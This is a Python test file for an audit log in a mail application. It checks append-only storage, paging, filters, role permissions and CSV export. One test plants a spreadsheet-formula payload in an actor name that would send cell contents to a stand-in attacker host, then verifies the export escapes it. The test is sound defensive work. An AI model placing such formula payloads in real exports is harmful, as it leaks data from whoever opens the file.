"""The audit log: append-only in the database itself, filtered and paged, CSV for owners."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from sqlalchemy import delete, text, update
from sqlalchemy.exc import DBAPIError

from coopmail.db import session_scope
from coopmail.staff import audit
from coopmail.staff.audit import AuditFilter, export_audit_csv, neutralise, query_audit
from coopmail.staff.errors import PermissionDenied
from coopmail.staff.models import AuditEntry
from coopmail.staff.roles import Actor, Role
from tests.coopmail.staff.conftest import Staff

OWNER = Actor(account_id=1, label="owner@coop.example.org", role=Role.OWNER, ip="192.0.2.1")
ADMIN = Actor(account_id=2, label="admin@coop.example.org", role=Role.ADMIN, ip="192.0.2.2")
EDITOR = Actor(account_id=3, label="ed@coop.example.org", role=Role.EDITOR)


def add(staff: Staff, actor: Actor, action: str, **fields: object) -> None:
    with session_scope(staff.engine) as session:
        audit.record(session, actor=actor, action=action, now=staff.clock(), **fields)  # type: ignore[arg-type]


def test_entries_cannot_be_changed_or_deleted(staff: Staff) -> None:
    add(staff, OWNER, "lists.created", target_type="list", target_id=4)
    for statement in (
        update(AuditEntry).values(action="nothing happened"),
        delete(AuditEntry),
        text("UPDATE audit_log SET actor = 'someone else'"),
        text("DELETE FROM audit_log"),
    ):
        with pytest.raises(DBAPIError, match="append-only"), session_scope(staff.engine) as session:
            session.execute(statement)
    with staff.session() as session:
        entry = session.query(AuditEntry).one()
        assert (entry.action, entry.actor, entry.target_id) == ("lists.created", OWNER.label, "4")


def test_the_log_is_read_newest_first_a_page_at_a_time(staff: Staff) -> None:
    for number in range(23):
        add(
            staff,
            OWNER if number % 2 else ADMIN,
            "lists.edited",
            target_type="list",
            target_id=number,
        )
        staff.clock.advance(minutes=1)
    with staff.session() as session:
        seen: list[int] = []
        before = None
        while True:
            page = query_audit(session, actor=ADMIN, before=before, limit=5)
            seen += [entry.id for entry in page.entries]
            if page.next_before is None:
                break
            before = page.next_before
    assert len(seen) == 23 == len(set(seen))
    assert seen == sorted(seen, reverse=True)


def test_filters_narrow_the_log(staff: Staff) -> None:
    start = staff.clock()
    add(staff, OWNER, "staff.created", target_type="staff", target_id=9)
    staff.clock.advance(hours=1)
    add(staff, ADMIN, "staff.role_changed", target_type="staff", target_id=9)
    add(staff, ADMIN, "lists.created", target_type="list", target_id=9)
    add(staff, Actor.system(), "staff_like_but_not.staff")

    def actions(**filters: object) -> list[str]:
        with staff.session() as session:
            page = query_audit(session, actor=OWNER, filters=AuditFilter(**filters))  # type: ignore[arg-type]
            return sorted(entry.action for entry in page.entries)

    assert actions(action="staff.") == ["staff.created", "staff.role_changed"]
    assert actions(action="staff_") == []
    assert actions(action="lists.created") == ["lists.created"]
    assert actions(actor_id=2) == ["lists.created", "staff.role_changed"]
    assert actions(actor="OWNER@coop.example.org") == ["staff.created"]
    assert actions(actor="system") == ["staff_like_but_not.staff"]
    assert actions(target_type="staff", target_id="9") == ["staff.created", "staff.role_changed"]
    assert actions(ip="192.0.2.1") == ["staff.created"]
    assert actions(since=start + timedelta(minutes=30)) == [
        "lists.created",
        "staff.role_changed",
        "staff_like_but_not.staff",
    ]
    assert actions(until=start + timedelta(minutes=30)) == ["staff.created"]


def test_who_may_read_and_export(staff: Staff) -> None:
    with staff.session() as session:
        with pytest.raises(PermissionDenied):
            query_audit(session, actor=EDITOR)
        query_audit(session, actor=ADMIN)
        with pytest.raises(PermissionDenied):
            export_audit_csv(session, actor=ADMIN, filters=AuditFilter(), now=staff.clock())


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_start_like_a_formula_are_neutralised(start: str) -> None:
    assert neutralise(start + "HYPERLINK(1)") == "'" + start + "HYPERLINK(1)"
    assert neutralise("a" + start) == "a" + start
    assert neutralise("") == ""


def test_the_csv_export_is_streamed_neutralised_and_itself_recorded(
    staff: Staff, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit, "_EXPORT_BATCH", 3)
    hostile = Actor.anonymous(label='=HYPERLINK("https://evil.example/?"&A1,"x")', ip="-1")
    add(staff, hostile, "login.failed", details={"note": "+1 call me"})
    for number in range(6):
        add(staff, OWNER, "lists.edited", target_type="list", target_id=number)
    with session_scope(staff.engine) as session:
        chunks = list(
            export_audit_csv(session, actor=OWNER, filters=AuditFilter(), now=staff.clock())
        )
    assert len(chunks) == 3  # 3 + 3 + 1 entries (the export's own record is the 8th)
    rows = list(csv.reader(io.StringIO("".join(chunks))))
    assert rows[0] == list(audit.CSV_COLUMNS)
    assert len(rows) == 1 + 8
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["actor"] == "'" + hostile.label
    assert first["ip"] == "'-1"
    assert first["details"] == '{"note": "+1 call me"}'
    assert rows[-1][4] == "audit.exported"
    with staff.session() as session:
        exported = query_audit(session, actor=OWNER, filters=AuditFilter(action="audit.exported"))
    assert [entry.actor for entry in exported.entries] == [OWNER.label]
